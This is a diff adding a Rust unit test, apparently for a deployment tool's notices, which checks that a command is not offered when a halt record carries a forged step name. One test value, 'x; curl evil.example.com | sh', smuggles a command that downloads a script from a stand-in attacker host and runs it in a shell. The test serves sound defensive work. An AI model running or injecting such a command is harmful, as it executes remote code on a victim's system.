@@ -256,3 +256,14 @@ fn texts_from_elsewhere_are_bounded_lines_without_control_characters() {
     assert_eq!((notice.commits.len(), notice.more_commits), (10, 40));
     assert!(!notice.commits[0].contains('\n'));
 }
+
+#[test]
+fn command_with_a_forged_step_is_not_offered() {
+    let halt = |step: &str| {
+        let halt = json!({"cause": "once-step", "by": "web1", "reason": "it failed", "step": step});
+        let notices = of_register(&json!({"count": {"hosts": 3, "serving": 3}, "halt": halt}));
+        notices[0].commands.len()
+    };
+    assert_eq!(halt("db-migrate"), 1);
+    assert_eq!(halt("x; curl evil.example.com | sh"), 0);
+}
